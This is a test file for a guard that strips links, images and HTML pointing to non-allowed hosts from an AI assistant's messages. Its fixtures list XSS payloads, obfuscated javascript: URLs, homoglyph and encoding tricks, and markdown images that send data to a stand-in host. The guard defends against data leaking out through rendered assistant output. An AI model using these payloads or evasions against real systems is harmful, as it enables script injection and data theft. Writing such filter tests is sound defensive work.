import pytest
from hypothesis import given
from hypothesis import strategies as st

from aloi.solutions.guard import Allow, Block, Rewrite
from aloi.solutions.guards.links import LinkPolicy, LinkPolicyOptions
from aloi.solutions.tables import table
from aloi.system.messages import Message

POLICY = LinkPolicy(LinkPolicyOptions(allowed_hosts=("banque-azur.example", "*.banque-azur.example")))
R = "[link removed]"


def rule(text):
    return POLICY.screen(Message(role="assistant", content=text))


STRIPPED = {
    "link": ("See [Détails](https://evil.example/?q=1) now", "See Détails now"),
    "link with a title": ('[a](https://evil.example "t") b', "a b"),
    "image": ("![x](https://evil.example/a.png?d=secret)", "x"),
    "image of an allowed host": ("![x](https://banque-azur.example/a.png)", "x"),
    "bare": ("visit https://evil.example/a, please.", f"visit {R}, please."),
    "reference": ("see [ref]\n\n[ref]: https://evil.example/x", "see [ref]\n\n"),
    "autolink": ("<https://evil.example>", f"<{R}>"),
    "no scheme": ("evil.example/login", R),
    "www": ("www.evil.example", R),
    "address": ("go to 203.0.113.7/x now", f"go to {R} now"),
    "below a foreign host": ("https://banque-azur.example.evil.example/", R),
    "user information": ("https://banque-azur.example@evil.example/", R),
    "backslash": ("https:\\\\evil.example\\x", R),
    "one slash": ("[a](https:/evil.example)", "a"),
    "protocol-relative": ("[x](//evil.example)", "x"),
    "look-alike letter": ("https://b\u0430nque-azur.example/", R),
    "zero width": ("ht\u200btps://ev\u200bil.example", R),
    "other dot": ("https://evil\u3002example/x", R),
    "full width": ("https://\uff45\uff56\uff49\uff4c.example/", R),
    "percent": ("https%3A%2F%2Fevil.example%2Fx", R),
    "host in percent": ("https://%65vil.example/", R),
    "references for signs": ("https&#58;&#47;&#47;evil.example", R),
    "other scheme": ("ftp://banque-azur.example/x", R),
    "script": ("<script>alert(1)</script>hi", "hi"),
    "script never closed": ("hi <script>alert(1)", "hi "),
    "nested script": ("<scr<script>x</script>ipt>alert(1)</script>", "<script>alert(1)</script>"),
    "event": ("<b onclick=x>y</b>", "y</b>"),
    "image that fails": ("<img src=x onerror=alert(1)>", ""),
    "frame": ('<iframe src="https://evil.example"></iframe>ok', "ok"),
    "drawing": ("<svg/onload=alert(1)>", ""),
    "link in HTML": ('<a href="https://evil.example">x</a>', "x</a>"),
    "script in a link": ("<a href='java\tscript:alert(1)'>x</a>", "x</a>"),
    "style": ("<p style='background:url(//evil.example)'>x</p>", "x</p>"),
    "embedded data": ("data:text/html;base64,AAAA", R),
    "form": ("<form action=/x><input name=pin></form>", ""),
    "reference image": ("![x][i]\n\n[i]: https://evil.example/p.png?d=1", "![x][i]\n\n"),
    "collapsed reference": ("[ref][]\n\n[ref]: <https://evil.example/x> 'title'", "[ref][]\n\n"),
    "autolink in entities": ("&lt;https://evil.example&gt;", f"&lt;{R};"),
    "entities for letters": ("<a href='&#104;ttps://evil.example'>x</a>", "x</a>"),
    "punycode": ("https://xn--bnque-azur-83a.example/", R),
    "zero width in an allowed host": ("https://banque\u200b-azur.example/", R),
    "embedded image": ("![x](data:image/svg+xml;base64,PHN2Zz4=)", "x"),
    "refresh": ("<meta http-equiv=refresh content='0;url=https://evil.example'>", ""),
    "style sheet": ("<style>@import url(https://evil.example/a.css);</style>ok", "ok"),
    "drawing that loads": ("<svg><image href='https://evil.example/a'/></svg>ok", "ok"),
    "digits before the scheme": ("1https://evil.example/x", f"1{R}"),
    "Chinese around a foreign link": ("\u8bf7\u8bbf\u95eehttps://evil.example/a", f"\u8bf7\u8bbf\u95ee{R}"),
    "allowed host with a Chinese beginning of another": ("https://banque-azur.example\u4e2d.evil.example/x", R),
    "allowed host that goes on behind an ideographic stop": ("https://banque-azur.example\u3002evil.example/x", R),
}


@pytest.mark.parametrize(("text", "left"), STRIPPED.values(), ids=STRIPPED)
def test_what_leads_elsewhere_is_taken_out(text, left):
    ruling = rule(text)
    assert isinstance(ruling, Rewrite)
    if "nested" not in text and "<scr<" not in text:
        assert ruling.content == left
    assert "evil" not in ruling.content
    assert "script:" not in ruling.content
    assert rule(ruling.content) == Allow()


DISGUISED = [
    "hxxps://evil[.]example/a",
    "https://evil[.]example/a",
    "evil[.]example",
    "evil (dot) example",
    "[a](javascript:alert(1))",
    "javascript&#58;alert(1)",
    "https[:]//evil.example",
    "[[a](https://evil.example)](https://evil.example)",
]


@pytest.mark.parametrize("text", DISGUISED)
def test_no_disguise_keeps_a_working_address(text):
    ruling = rule(text)
    assert isinstance(ruling, Rewrite)
    assert "evil" not in ruling.content.replace("[.]example", "") or "//" not in ruling.content
    assert rule(ruling.content) == Allow()


PASSES = {
    "empty": "",
    "allowed link": "See [the fees](https://banque-azur.example/fees) now.",
    "allowed bare": "https://www.banque-azur.example/x?y=1.",
    "allowed name": "www.banque-azur.example",
    "allowed name and a sign": "www.banque-azur.example (point), the main one",
    "allowed capitals": "HTTPS://Banque-Azur.Example/",
    "relative": "[fees](/fees) and [top](#top)",
    "comparison": "a < b and b > c; if a <b then List<String>",
    "harmless markup": "<b>2 euros</b><br>",
    "sentence without a blank": "Cela dépend.De plus, c'est fini.Le taux est de 1.5",
    "e-mail": "jean.dupont@exemple.fr",
    "abbreviations": "e.g. this, i.e. that, etc.",
    "data as a word": "data: 12 lines",
    "time": "9:00-17:30",
    "surrogates": "\ud800\udfff",
    "telephone": "[call](tel:+33155000000)",
    "right-to-left": "\u200f\u05d0\u05d1\u05d2",
    "allowed link in Chinese": "\u8be6\u89c1https://banque-azur.example/fees\u3002\u8c22\u8c22\uff01",
    "allowed link in Chinese brackets": "\uff08https://banque-azur.example/fees\uff09",
    "allowed link before a Chinese comma": "\u8be6\u89c1https://banque-azur.example/a?b=1\uff0c\u6216\u81f4\u7535",
    "allowed host in Chinese": "\u8bf7\u8bbf\u95eewww.banque-azur.example\u67e5\u770b",
    "allowed host with a scheme in Chinese": "\u8bf7\u8bbf\u95eehttps://banque-azur.example\u67e5\u770b",
    "allowed link in Japanese": "\u3053\u3061\u3089https://banque-azur.example/ja/\u3092\u3054\u89a7\u304f\u3060\u3055\u3044\u3002",
}


def test_a_host_that_a_renderer_would_read_on_is_set_apart():
    written = "\u8bf7\u8bbf\u95eehttps://banque-azur.example\u3002\u8c22\u8c22"
    apart = "\u8bf7\u8bbf\u95eehttps://banque-azur.example \u3002\u8c22\u8c22"
    assert rule(written) == Rewrite(content=apart, reason="link")
    assert rule(apart) == Allow()


@pytest.mark.parametrize("text", PASSES.values(), ids=PASSES)
def test_ordinary_text_and_allowed_hosts_pass(text):
    assert rule(text) == Allow()


def test_block_and_images_are_options(screen):
    assert screen("link-policy", "https://evil.example", action="block") == Block(reason="link")
    image = "![x](https://banque-azur.example/a.png)"
    assert screen("link-policy", image, allowed_hosts=["banque-azur.example"], allow_images=True) == Allow()


def test_a_flood_of_links_is_blocked():
    assert isinstance(rule("https://evil.example/a " * 2_000), Block)


def test_tables_hold_text():
    assert all(
        isinstance(word, str) for key, row in table("link-policy").items() if isinstance(row, list) for word in row
    )


PIECES = st.sampled_from([*(text for text, _ in STRIPPED.values()), "[", "](", "<", ">", " ", "x", "//"])


@pytest.mark.parametrize("times", [1, 8])
def test_addresses_within_an_allowed_one_are_read(times):
    nested = "https://banque-azur.example/?to=" * times
    assert rule(f"See {nested}.") == Allow()
    assert rule(f"See {nested}https://evil.example/.").content == f"See {nested}{R}."


@pytest.mark.parametrize("times", [9, 100])
def test_what_is_nested_without_end_is_no_address_of_an_answer(times):
    nested = "https://banque-azur.example/?to="
    assert rule(f"See {nested * times} now.").content == f"See {nested * 8}{R} now."
    assert isinstance(rule(f"See {nested * 1000} now."), Block)


@given(st.lists(PIECES, max_size=6).map("".join))
def test_stripping_leaves_nothing_to_strip(text):
    ruling = rule(text)
    if isinstance(ruling, Rewrite):
        assert rule(ruling.content) == Allow()


@given(st.text(max_size=200))
def test_any_text_gets_a_ruling(text):
    assert isinstance(rule(text), Allow | Block | Rewrite)


@pytest.mark.parametrize("before", ["x\u0430", "Voir\u0430", "ab\u200b\u0441d", "see\u00e9", "1\u0430"])
def test_letters_of_another_script_before_an_address_do_not_hide_it(before):
    # A renderer begins the address at its scheme, whatever letter stands before it.
    assert "evil" not in rule(f"Look: {before}https://evil.example/?d=1 now").content
    assert "evil" not in rule(f"Look: {before}evil.example/x now").content


@pytest.mark.parametrize(
    "behind", [".x" * 300, "%2e" * 300, "&#46;evil" * 100, "." + "banque-azur.example." * 30 + "fr"]
)
def test_a_host_that_does_not_end_near_the_beginning_is_not_allowed(behind):
    assert rule(f"See https://banque-azur.example{behind}/?a&b now").content == f"See {R} now"


def test_a_long_path_changes_nothing():
    assert rule("See https://banque-azur.example/" + "%41&amp;" * 2_000 + " now") == Allow()


@pytest.mark.parametrize("address", ["https://banque-azur.example/a", "banque-azur.example/a"])
def test_of_very_many_addresses_the_last_ones_are_not_allowed(address):
    text = " ".join([address] * 1_000)
    assert rule(text) == Allow()
    assert rule(f"{text} {address} and more").content == f"{text} {R} and more"
    assert isinstance(rule(f"{text} " + " ".join([address] * 600)), Block)


FAR = {
    "blanks": '<a href="{}//evil.example/?d=1">x</a>'.format(" " * 400),
    "encoded blanks": '<a href="{}//evil.example/?d=1">x</a>'.format("&#32;" * 80),
    "in a script": '<a href="java{}script:alert(1)">x</a>'.format("&Tab;" * 80),
    "tabs in a script": '<a href="java{}script:alert(1)">x</a>'.format("\t" * 400),
    "zeros": '<a href="javascript&#{}58;alert(1)">x</a>'.format("0" * 400),
    "in a scheme": '<a href="https{}://evil.example/?d=1">x</a>'.format("\n" * 400),
    "between slashes": '<a href="/{}/3232235777/?d=1">x</a>'.format("\t" * 400),
    "markdown": "[x]({}//evil.example/?d=1)".format("&#32;" * 80),
    "script in markdown": "[x](java{}script:alert(1))".format("&Tab;" * 80),
    "zeros in markdown": "[x](javascript&#{}58;alert(1))".format("0" * 400),
    "definition": "[x]: {}//evil.example/?d=1\n".format("&#32;" * 80),
    "mail": "[x](mailto:{}@banque-azur.example&#630;.evil.example)".format("a" * 369),
}


@pytest.mark.parametrize("text", FAR.values(), ids=FAR)
def test_what_stands_far_before_a_host_does_not_hide_it(text):
    assert isinstance(rule(text), Rewrite)


def test_a_number_is_counted_apart_from_the_names_behind_it():
    policy = LinkPolicy(LinkPolicyOptions(allowed_hosts=("banque-azur.example", "203.0.113.7")))
    text = "See 203.0.113.7/x and so on for a while. It is fine.\n"
    whole = text + "banque-azur.example/a " * 1_000 + "end"
    assert policy.settled(text) == len(text)
    assert policy.screen(Message(role="assistant", content=whole)) == Allow()
